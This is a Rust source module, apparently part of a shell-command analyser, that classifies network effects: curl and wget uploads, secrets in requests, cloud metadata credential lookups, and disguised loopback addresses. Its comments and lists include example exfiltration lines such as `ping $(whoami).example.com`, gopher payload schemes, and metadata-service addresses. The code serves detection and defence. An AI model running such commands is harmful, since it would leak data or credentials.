//! Hosts and addresses: what stays on this machine, what leaves it.

use super::field::{Field, Part, Source, UNKNOWN, Value};
use super::options::Options;
use super::place::PlaceKind;
use super::principle::{goes_astray, secret_variable};
use super::tool::personal;
use super::walk::Walker;
use crate::effect::{Kind, Reach, Span, Tier, Undo};
use crate::knowledge::{Rule, RunPlace};

/// The host in a URL, `user@host:path`, `host:port` or plain name.
pub(super) fn host_of(text: &str) -> &str {
    let rest = text.split_once("://").map_or(text, |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    if let Some(end) = host.strip_prefix('[').and_then(|h| h.find(']')) {
        return host.get(1..=end).unwrap_or(host);
    }
    host.split(':').next().unwrap_or(host)
}

/// `curl -o /dev/null -w '%{http_code}'`: the answer is thrown away, and what is printed about it are numbers.
fn prints_numbers_only(options: &Options) -> bool {
    let thrown_away = ["-o", "--output"].iter().flat_map(|o| options.values(o)).any(|f| f.is("/dev/null"));
    let mut formats = ["-w", "--write-out"].iter().flat_map(|o| options.values(o)).peekable();
    thrown_away
        && formats.peek().is_some()
        && formats.all(|format| {
            format.known().is_some_and(|text| {
                text.split("%{").skip(1).all(|variable| {
                    ["http_code}", "response_code}", "time_", "size_", "num_", "speed_", "http_version}"]
                        .iter()
                        .any(|number| variable.starts_with(number))
                })
            })
        })
}

pub(super) fn is_loopback(host: &str) -> bool {
    matches!(host, "localhost" | "::1" | "0.0.0.0" | "host.docker.internal" | "ip6-localhost")
        || host.starts_with("127.") && host.parse::<std::net::Ipv4Addr>().is_ok()
        || host.ends_with(".localhost")
        || host.is_empty()
}

/// Whether `curl` or `wget` is told a password or a token to sign in with.
fn signs_in(options: &Options) -> bool {
    const SIGNS: &[&str] = &[
        "-u",
        "--user",
        "--password",
        "--http-user",
        "--http-password",
        "--oauth2-bearer",
        "-b",
        "--cookie",
    ];
    options.given.iter().any(|given| {
        let header =
            matches!(given.name.as_ref(), "-H" | "--header").then_some(given.value.as_ref()).flatten();
        let named = header.map(|h| h.value.prefix().to_ascii_lowercase());
        let signs = |h: String| {
            ["authorization", "cookie", "x-api-key", "private-token"].iter().any(|n| h.starts_with(n))
        };
        SIGNS.contains(&given.name.as_ref()) || named.is_some_and(signs)
    })
}

/// Whether an option leads a name of this network elsewhere.
fn is_led_elsewhere(options: &Options) -> bool {
    const LEADS: &[&str] =
        &["--resolve", "--connect-to", "--proxy", "--preproxy", "--doh-url", "--dns-servers"];
    options.raw.iter().any(|word| {
        let text = word.value.prefix();
        text.starts_with("-x") || LEADS.contains(&text.split_once('=').map_or(text, |(name, _)| name))
    })
}

/// Whether an address is on the developer's own network: this machine, or a host of one label (`http://api:8000`), which only a
/// container network or the office resolves. The whole host must be known.
pub(super) fn is_own_network(address: &Value) -> bool {
    let prefix = address.prefix();
    let host = host_of(prefix);
    if prefix.is_empty() || is_loopback(host) {
        return !prefix.is_empty();
    }
    let Some((scheme, rest)) = prefix.split_once("://") else { return false };
    let ended = address.known().is_some() || rest.trim_start_matches(|c| !matches!(c, '/' | ':')).len() > 1;
    let label = host.starts_with(|c: char| c.is_ascii_alphabetic())
        && host.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_'));
    // `http://metadata/` is the cloud's, and a name may stand before an address as its user.
    matches!(scheme, "http" | "https" | "ws" | "wss")
        && ended
        && label
        && !rest.contains('@')
        && !is_metadata_service(host)
        && host != "metadata"
}

/// Whether a host may be this machine, however it is spelled: for what guards, never for what lowers.
pub(super) fn may_be_loopback(host: &str) -> bool {
    let host = host.trim_matches(['[', ']']).trim_end_matches('.').to_ascii_lowercase();
    if is_loopback(&host) && !host.is_empty() || host == "ip6-loopback" || host == "::" {
        return true;
    }
    if let Ok(address) = host.parse::<std::net::Ipv6Addr>() {
        let mapped = address.to_ipv4_mapped().is_some_and(|v4| v4.is_loopback() || v4.is_unspecified());
        return address.is_loopback() || address.is_unspecified() || mapped;
    }
    // Names that the whole world resolves to this machine.
    let named = ["localtest.me", "lvh.me", "vcap.me", "lacolhost.com"];
    if named
        .iter()
        .any(|name| host == *name || host.strip_suffix(name).is_some_and(|rest| rest.ends_with('.')))
    {
        return true;
    }
    if host.ends_with(".nip.io") || host.ends_with(".sslip.io") || host.ends_with(".xip.io") {
        return host.contains("127.") || host.contains("127-") || host.contains("7f00");
    }
    old_address(&host).is_some_and(|n| n >> 24 == 127 || n == 0)
}

/// Whether a host may be this machine by a name that nobody looks up here: one label, a name of the local network, or one
/// that is not known. Only beside a port or a path of the gateway's own.
pub(super) fn may_be_this_machine(host: &str) -> bool {
    const LOCAL: &[&str] = &[".local", ".localdomain", ".lan", ".home", ".internal"];
    let label = || {
        host.starts_with(|c: char| c.is_ascii_alphabetic())
            && host.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
            && (!host.trim_end_matches('.').contains('.') || LOCAL.iter().any(|end| host.ends_with(end)))
    };
    host.contains(UNKNOWN) || label()
}

/// An address of one to four numbers, decimal, octal or hexadecimal, as the old functions of C read it.
fn old_address(host: &str) -> Option<u32> {
    let parts: Vec<&str> = host.split('.').collect();
    if parts.len() > 4 {
        return None;
    }
    let number = |text: &str| -> Option<u32> {
        match text {
            "" => None,
            "0" => Some(0),
            _ => match text.strip_prefix("0x") {
                Some("") => Some(0),
                Some(hex) => u32::from_str_radix(hex, 16).ok(),
                None if text.starts_with('0') => u32::from_str_radix(text, 8).ok(),
                None => text.parse().ok(),
            },
        }
    };
    let (last, first) = parts.split_last()?;
    let mut out: u32 = 0;
    for (i, part) in first.iter().enumerate() {
        let n = number(part).filter(|n| *n < 256)?;
        out |= n << (24 - 8 * i);
    }
    let n = number(last)?;
    let room = 32 - 8 * first.len();
    (room == 32 || n >> room == 0).then_some(out | n)
}

/// `$(…).evil.example`, `https://$(…).evil.example/`: something unknown that a command printed, a dot, and a domain.
fn output_before_domain(value: &Value, bare: bool) -> bool {
    let mut authority = bare;
    let mut unknown = false;
    for part in &value.parts {
        match part {
            Part::Text(text) => {
                let text = text.as_str();
                let rest = match text.split_once("://") {
                    Some((_, rest)) => {
                        (authority, unknown) = (true, false);
                        rest
                    }
                    None => text,
                };
                let host = rest.split(['/', '?', '#']).next().unwrap_or("");
                if authority && unknown && host.starts_with('.') && host.matches('.').count() > 1 {
                    return true;
                }
                authority &= host.len() == rest.len();
            }
            Part::Unknown(Source::Variable(_)) | Part::Glob(_) => unknown = false,
            Part::Unknown(_) => unknown = true,
        }
    }
    false
}

/// Programs that turn a file or another program's output into a text that fits into an address. Sorted.
const ENCODES: &[&str] = &[
    "base32", "base64", "basenc", "bzip2", "gbase64", "gzip", "hexdump", "od", "openssl", "tar", "uuencode",
    "xxd", "xz", "zip",
];

/// What of a value is the text of a local file, or an encoded one.
fn local_text(value: &Value) -> Option<String> {
    value.sources().find_map(|source| match source {
        // `$(cat VERSION)` is a part of the address, not a load.
        Source::File(path) => {
            let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
            let small =
                ["version", "tag", "release", "commit", "sha", "token", "port", "host", "url", "name", "id"];
            (!small.iter().any(|word| name.contains(word)) && !path.starts_with("/dev/"))
                .then(|| path.clone())
        }
        Source::Output(program) => {
            let name = program.split(' ').next().unwrap_or(program);
            ENCODES.binary_search(&name).is_ok().then(|| format!("what `{name}` prints"))
        }
        _ => None,
    })
}

/// Headers by which a request says who sends it.
fn signs(header: &str) -> bool {
    let name = header.split(':').next().unwrap_or("").to_ascii_lowercase();
    ["authorization", "token", "key", "auth", "signature"].iter().any(|word| name.contains(word))
}

/// The address at which a cloud tells its machines their own credentials, however it is spelled.
pub(super) fn is_metadata_service(host: &str) -> bool {
    const NAMES: &[&str] = &[
        "169.254.169.254",
        "169.254.170.2",
        "100.100.100.200",
        "metadata.google.internal",
        "fd00:ec2::254",
        "metadata",
    ];
    let number = match host.strip_prefix("0x") {
        Some(hex) => u32::from_str_radix(hex, 16).ok(),
        None => host.parse::<u32>().ok(),
    };
    NAMES.contains(&host)
        || number.is_some_and(|n| NAMES.contains(&std::net::Ipv4Addr::from(n).to_string().as_str()))
}

/// Schemes by which a program that fetches pages speaks to something else: a database, a mail server, a directory.
fn odd_scheme(address: &str) -> Option<&str> {
    #[rustfmt::skip]
    const ODD: &[&str] = &[
        "dict", "gopher", "gophers", "imap", "imaps", "jar", "ldap", "ldaps", "mqtt", "netdoc", "phar", "pop3", "pop3s", "rtmp", "rtsp",
        "smb", "smbs", "smtp", "smtps", "telnet", "tftp",
    ];
    let (scheme, _) = address.split_once("://")?;
    ODD.iter().any(|odd| odd.eq_ignore_ascii_case(scheme)).then_some(scheme)
}

/// Schemes that carry any bytes to any service, or read a file by another name. No tool of a project has an own use for
/// them. Sorted.
const CARRIES_BYTES: &[&str] = &[
    "dict", "expect", "finger", "gopher", "gophers", "jar", "netdoc", "ogg", "phar", "ssh2", "tftp", "zlib",
];

/// Ends of names that are no endings of files.
#[rustfmt::skip]
const DOMAINS: &[&str] = &[
    "app", "biz", "club", "cloud", "cn", "co", "com", "de", "dev", "eu", "example", "fr", "fun", "icu", "in", "info", "invalid",
    "io", "link", "live", "me", "net", "nl", "online", "onion", "org", "pro", "ru", "shop", "site", "space", "store", "tech",
    "test", "tk", "top", "uk", "us", "website", "work", "world", "xyz",
];

/// Whether the last word of a value ends as names of hosts do.
fn ends_in_domain(value: &Value) -> bool {
    let Some(Part::Text(tail)) = value.parts.last() else { return false };
    let host = tail.split(['/', ':', '?']).next().unwrap_or("");
    host.rsplit_once('.').is_some_and(|(_, last)| DOMAINS.contains(&last))
}

/// Programs whose words are names of hosts. Sorted.
#[rustfmt::skip]
const ASKS_FOR_HOSTS: &[&str] = &[
    "arping", "curl", "delv", "dig", "dog", "doggo", "drill", "fping", "getent", "host", "http", "kdig", "mtr", "nc", "ncat", "nslookup",
    "ping", "ping6", "resolvectl", "ssh", "telnet", "tracepath", "traceroute", "wget", "whois",
];

impl Walker<'_> {
    /// What a command printed, as part of a host's name: whoever answers for that domain reads it.
    pub(super) fn output_in_host(&mut self, name: &str, fields: &[Field], speaks: bool) {
        let bare = ASKS_FOR_HOSTS.binary_search(&name).is_ok();
        for field in fields.iter().skip(1) {
            let value = &field.value;
            // `ping $(whoami).example.com`: what is known here is news to them.
            let told =
                self.told.iter().any(|told| field.span.start <= told.start && told.end <= field.span.end);
            if told && (bare || speaks) && ends_in_domain(value) {
                self.leaks_in_name(value, field.span);
                return;
            }
            if value.has_unknown()
                && (output_before_domain(value, bare)
                    || speaks && ends_in_domain(value) && output_before_domain(value, true))
            {
                self.leaks_in_name(value, field.span);
                return;
            }
            if speaks && self.run_place == RunPlace::Here {
                self.odd_schemes(field);
            }
        }
    }

    pub(super) fn leaks_in_name(&mut self, host: &Value, span: Span) {
        let shown = host.shown();
        self.effect(
            Kind::Send,
            Some(shown.clone()),
            span,
            "principle/output-in-host",
            &format!("puts what a command printed into the name of a host: `{shown}`"),
            Tier::High,
            Reach::Remote,
            Undo::None,
        );
    }

    /// `gopher://127.0.0.1:6379/_…` and its like, whatever program is handed it: they carry any bytes to any service.
    fn odd_schemes(&mut self, field: &Field) {
        let text = field.value.prefix();
        let word = text.split_once('=').filter(|_| text.starts_with('-')).map_or(text, |(_, value)| value);
        let Some((scheme, _)) = word.split_once("://") else { return };
        let scheme = scheme.to_ascii_lowercase();
        let known = self.effects.iter().any(|e| e.kind == Kind::OpenNetwork && e.span == field.span);
        if CARRIES_BYTES.binary_search(&scheme.as_str()).is_err() || known {
            return;
        }
        let shown = field.value.shown();
        self.effect(
            Kind::OpenNetwork,
            Some(shown.clone()),
            field.span,
            "principle/odd-scheme",
            &format!("speaks `{scheme}` to `{shown}`: that can command other services"),
            Tier::Medium,
            Reach::Remote,
            Undo::Hard,
        );
    }

    /// An effect of a table on a host: what stays on loopback is everyday work.
    pub(super) fn host_effect(&mut self, rule: &'static Rule, id: &str, word: &Field) {
        self.requests_gateway(&word.value.spelled(), word.span);
        let shown = word.value.shown();
        let text = rule.text.replace("{}", &format!("`{shown}`"));
        let (tier, reach, undo) = rule.effect.ordinary();
        let tier = rule.tier.unwrap_or(tier);
        let local = !word.value.prefix().is_empty() && is_loopback(host_of(word.value.prefix()));
        let tier = if local { tier.min(Tier::Low) } else { tier };
        self.effect(
            rule.effect,
            Some(shown),
            word.span,
            id,
            &text,
            tier,
            if local { Reach::Workspace } else { rule.reach.unwrap_or(reach) },
            rule.undo.unwrap_or(undo),
        );
    }

    /// Data leaves for an address. `with` names a secret that goes along.
    pub(super) fn send(&mut self, to: &Value, span: Span, rule: &str, with: Option<&str>) {
        self.send_signed(to, span, rule, with, false);
    }

    /// The same; `signed` with a password or a token, which only this machine may be told unasked.
    fn send_signed(&mut self, to: &Value, span: Span, rule: &str, with: Option<&str>, signed: bool) {
        self.speaks_to_gateway(&to.spelled(), span);
        self.requests_gateway(&to.spelled(), span);
        let shown = to.shown();
        if let Some(path) = to.prefix().strip_prefix("file://") {
            self.path_effect(Kind::Overwrite, &Value::text(path), span, rule, "writes {}", false);
            return;
        }
        let here = !to.prefix().is_empty() && is_loopback(host_of(to.prefix()));
        let local = here || with.is_none() && !signed && is_own_network(to);
        let (tier, text) = match (with, local) {
            (Some(secret), false) => (Tier::Critical, format!("sends `{secret}` to `{shown}`")),
            (_, true) if here => (Tier::Low, format!("calls `{shown}` on this machine")),
            (_, true) => (Tier::Low, format!("calls `{shown}` on your own network")),
            (None, false) => (Tier::Medium, format!("sends data to `{shown}`")),
        };
        self.effect(
            Kind::Send,
            Some(shown),
            span,
            rule,
            &text,
            tier,
            if tier == Tier::Low { Reach::Workspace } else { Reach::Remote },
            if local || tier > Tier::Low { Undo::None } else { Undo::Hard },
        );
    }

    /// The text of a local file inside an address, whatever program is handed it.
    pub(super) fn text_in_address(&mut self, name: &str, fields: &[Field]) {
        if matches!(name, "curl" | "wget" | "echo" | "printf" | "git") {
            return;
        }
        let looks_up = ASKS_FOR_HOSTS.binary_search(&name).is_ok() && name != "ssh";
        let addressed = fields.iter().skip(1).any(|f| f.value.prefix().contains("://"));
        let field = fields.iter().skip(1).find(|f| {
            let inside =
                f.value.prefix().contains("://") || looks_up || addressed && !f.value.prefix().contains('/');
            inside && local_text(&f.value).is_some()
        });
        let Some(field) = field.cloned() else { return };
        let address = fields.iter().skip(1).find(|f| f.value.prefix().contains("://")).cloned();
        let to = address.unwrap_or_else(|| field.clone());
        self.send(&to.value, field.span, "principle/text-in-address", None);
    }

    /// `DELETE`: what was there is gone, and on another machine.
    fn deletes_there(&mut self, at: &Value, span: Span, rule: &str) {
        if is_own_network(at) {
            return;
        }
        let text = format!("deletes `{}`", at.shown());
        self.effect(
            Kind::DropData,
            Some(at.shown()),
            span,
            rule,
            &text,
            Tier::High,
            Reach::Remote,
            Undo::None,
        );
    }

    pub(super) fn fetches(&mut self, from: &Value, span: Span, rule: &str) {
        self.speaks_to_gateway(&from.spelled(), span);
        self.requests_gateway(&from.spelled(), span);
        if is_metadata_service(host_of(from.prefix())) {
            self.effect(
                Kind::ReadSecret,
                Some(from.shown()),
                span,
                rule,
                "asks the cloud's metadata service, which hands out credentials",
                Tier::High,
                Reach::Remote,
                Undo::None,
            );
            return;
        }
        let shown = from.shown();
        if let Some(secret) = from.secret().map(str::to_owned).or_else(|| secret_variable(from)) {
            self.send(from, span, rule, Some(&secret));
            return;
        }
        let host = host_of(from.prefix());
        if !is_loopback(host) && personal::in_address(&shown, host) {
            self.send(from, span, rule, Some("a secret in its address"));
            return;
        }
        if let Some(scheme) = odd_scheme(from.prefix()) {
            let text = format!("speaks `{scheme}` to `{shown}`: that can command other services");
            let kind = Kind::OpenNetwork;
            self.effect(kind, Some(shown), span, rule, &text, Tier::Medium, Reach::Remote, Undo::Hard);
            return;
        }
        if let Some(path) = from.prefix().strip_prefix("file://") {
            self.path_effect(Kind::Read, &Value::text(path), span, rule, "reads {}", false);
            return;
        }
        self.effect(
            Kind::Download,
            Some(shown.clone()),
            span,
            rule,
            &format!("fetches `{shown}`"),
            Tier::Low,
            Reach::Workspace,
            Undo::Easy,
        );
    }

    pub(super) fn connects(&mut self, to: &Value, span: Span, rule: &str) {
        let tier = if is_own_network(to) { Tier::Low } else { Tier::Medium };
        let shown = to.shown();
        self.effect(
            Kind::OpenNetwork,
            Some(shown.clone()),
            span,
            rule,
            &format!("opens a connection to `{shown}`"),
            tier,
            Reach::Remote,
            Undo::Easy,
        );
    }

    /// `curl` and `wget`: method, body, where the answer goes.
    pub(super) fn curl(&mut self, name: &str, options: &Options, stdin: &Value) -> Value {
        let mut urls: Vec<Field> = options.args.clone();
        urls.extend(options.values("--url").cloned());
        let mut secret = stdin.secret().map(str::to_owned).filter(|_| {
            options.given.iter().any(|g| g.value.as_ref().is_some_and(|v| v.value.prefix().contains('-')))
        });
        let (mut body, mut loaded) = (false, false);
        for given in options.given.iter().take_while(|_| !crate::work::is_spent()) {
            let Some(value) = &given.value else { continue };
            let sends = matches!(
                given.name.as_ref(),
                "-d" | "--data"
                    | "--data-binary"
                    | "--data-raw"
                    | "--data-ascii"
                    | "--data-urlencode"
                    | "--json"
                    | "-F"
                    | "--form"
                    | "--form-string"
                    | "-T"
                    | "--upload-file"
                    | "--post-data"
                    | "--post-file"
                    | "--body-data"
                    | "--body-file"
                    | "--url-query"
            );
            body |= sends && !(given.name.contains("url-query"));
            let carries = value
                .value
                .secret()
                .map(str::to_owned)
                .or_else(|| if sends { secret_variable(&value.value) } else { None });
            let host = urls.first().map_or("", |u| host_of(u.value.prefix()));
            if let Some(what) = carries.or_else(|| goes_astray(&value.value, host)) {
                secret = Some(what);
            }
            let header = matches!(
                given.name.as_ref(),
                "-H" | "--header"
                    | "-A"
                    | "--user-agent"
                    | "-e"
                    | "--referer"
                    | "-b"
                    | "--cookie"
                    | "--url-query"
            );
            // Where a login should stand, and the whole of it is what a file holds.
            let login =
                matches!(given.name.as_ref(), "-u" | "--user" | "-U" | "--proxy-user" | "--oauth2-bearer")
                    && value.value.prefix().is_empty();
            loaded |= (header || login) && local_text(&value.value).is_some() && !signs(value.value.prefix());
            if sends || matches!(given.name.as_ref(), "-H" | "--header") {
                secret = self.file_argument(&given.name, value, stdin).or(secret);
            }
        }
        let method = options
            .value("-X")
            .or_else(|| options.value("--request"))
            .or_else(|| options.value("--method"))
            .and_then(|m| m.known().map(str::to_ascii_uppercase));
        let writes = match method.as_deref() {
            Some("GET" | "HEAD" | "OPTIONS") => false,
            Some(_) => true,
            None => body && !options.has("-G") && !options.has("--get"),
        };
        let shown = urls.first().map_or_else(String::new, |u| u.value.shown());
        self.options_from_input(name, options, stdin);
        // Said once for all of them: each look goes through every word.
        let (deletes, led, signed) =
            (method.as_deref() == Some("DELETE"), is_led_elsewhere(options), signs_in(options));
        for url in urls.iter().take_while(|_| !crate::work::is_spent()) {
            let in_url = url.value.secret().map(str::to_owned).or_else(|| secret_variable(&url.value));
            let secret = secret.clone().or(in_url);
            if deletes {
                self.deletes_there(&url.value, url.span, &format!("{name}/delete"));
            }
            let loaded = loaded || local_text(&url.value).is_some();
            if writes && led && is_own_network(&url.value) {
                let text = format!("sends data to `{}`, which its options lead elsewhere", url.value.shown());
                self.effect(
                    Kind::Send,
                    Some(url.value.shown()),
                    url.span,
                    &format!("{name}/led-elsewhere"),
                    &text,
                    Tier::Medium,
                    Reach::Remote,
                    Undo::None,
                );
            }
            if writes || secret.is_some() || loaded {
                let rule = format!("{name}/send");
                self.send_signed(&url.value, url.span, &rule, secret.as_deref(), signed);
            } else {
                self.fetches(&url.value, url.span, &format!("{name}/fetch"));
            }
        }
        self.downloaded_files(name, options, &urls, &shown);
        if prints_numbers_only(options) {
            return Value::unknown(Source::Output(name.to_owned()));
        }
        Value::unknown(Source::Download(shown))
    }

    /// `curl -K -`: what it does stands in its input.
    fn options_from_input(&mut self, name: &str, options: &Options, stdin: &Value) {
        let config = ["-K", "--config"].iter().find_map(|o| options.value(o)).filter(|f| f.is("-")).cloned();
        let Some(config) = config else { return };
        // Nothing but an address and what is said about it: that is a download.
        let plain = |line: &str| {
            let key = line.trim().trim_start_matches('-').split(['=', ' ', ':']).next().unwrap_or("").trim();
            matches!(
                key,
                "" | "url"
                    | "silent"
                    | "location"
                    | "fail"
                    | "show-error"
                    | "compressed"
                    | "header"
                    | "H"
                    | "s"
                    | "L"
                    | "f"
            ) && !line.contains("file://")
        };
        if stdin.known().is_some_and(|text| !text.is_empty() && text.lines().all(plain)) {
            let text = stdin.known().unwrap_or_default().to_owned();
            for address in text.split(['"', ' ', '=', '\n']).filter(|word| word.contains("://")) {
                self.fetches(&Value::text(address), config.span, &format!("{name}/fetch"));
            }
            return;
        }
        self.effect(
            Kind::Send,
            None,
            config.span,
            &format!("{name}/options-from-input"),
            "takes its options from its input: what it sends, and where, is not seen here",
            Tier::Medium,
            Reach::Remote,
            Undo::None,
        );
    }

    /// `-d @file`, `-F f=@file`, `-T file`: the secret that goes out, if the file holds one.
    fn file_argument(&mut self, option: &str, value: &Field, stdin: &Value) -> Option<String> {
        let text = value.value.prefix().to_owned();
        let at = text.find('@').or_else(|| text.find('<')).map(|i| i + 1);
        let whole = matches!(option, "-T" | "--upload-file" | "--post-file" | "--body-file");
        let file = match at {
            _ if whole => value.clone(),
            Some(at) => super::options::rest_of(value, at),
            None => return None,
        };
        if file.is("-") || file.is(".") {
            return stdin.secret().map(str::to_owned);
        }
        self.file_leaves(&file, value.span)
    }

    fn downloaded_files(&mut self, name: &str, options: &Options, urls: &[Field], from: &str) {
        let content = Value::unknown(Source::Download(from.to_owned()));
        let named: Vec<Field> = ["-o", "--output", "-O", "--output-document"]
            .iter()
            .flat_map(|o| options.values(o))
            .cloned()
            .collect();
        let folder = options.value("--output-dir").map(|f| f.value.prefix().to_owned());
        for file in named.into_iter().take_while(|_| !crate::work::is_spent()) {
            if file.is("-") {
                continue;
            }
            self.path_effect(
                Kind::Overwrite,
                &file.value,
                file.span,
                &format!("{name}/output"),
                "writes {}",
                false,
            );
            match folder.as_ref().filter(|_| !file.value.prefix().starts_with('/')) {
                Some(folder) => {
                    let path = Value::text(format!("{folder}/{}", file.value.prefix()));
                    self.remember_written(&path, &content, false);
                }
                None => self.remember_written(&file.value, &content, false),
            }
        }
        let by_url = name == "wget" && !options.has("-O") && !options.has("--output-document")
            || name == "curl" && (options.has("-O") || options.has("--remote-name"));
        let named_there =
            ["-J", "--remote-header-name", "--content-disposition"].iter().any(|o| options.has(o));
        if by_url && named_there {
            // The other side says what it is called.
            let here = Value::text(self.cwd().unwrap_or_default());
            if self.holds(&self.place(&here).path).is_some() {
                let rule = format!("{name}/output");
                self.path_effect(Kind::Write, &here, self.span, &rule, "writes into {}", true);
            }
        }
        if by_url {
            let folder = options.value("-P").map_or(String::new(), |p| format!("{}/", p.value.prefix()));
            for url in urls.iter().take_while(|_| !crate::work::is_spent()) {
                let base = url.value.shown();
                let base =
                    base.split(['?', '#']).next().unwrap_or("").rsplit('/').next().unwrap_or("").to_owned();
                if !base.is_empty() {
                    let path = Value::text(format!("{folder}{base}"));
                    let grave = matches!(
                        self.place(&path).kind,
                        PlaceKind::Guard | PlaceKind::Startup | PlaceKind::Credential | PlaceKind::System
                    );
                    if grave {
                        let rule = format!("{name}/output");
                        self.path_effect(Kind::Overwrite, &path, url.span, &rule, "writes {}", false);
                    }
                    self.remember_written(&Value::text(format!("{folder}{base}")), &content, false);
                }
            }
        }
    }
}
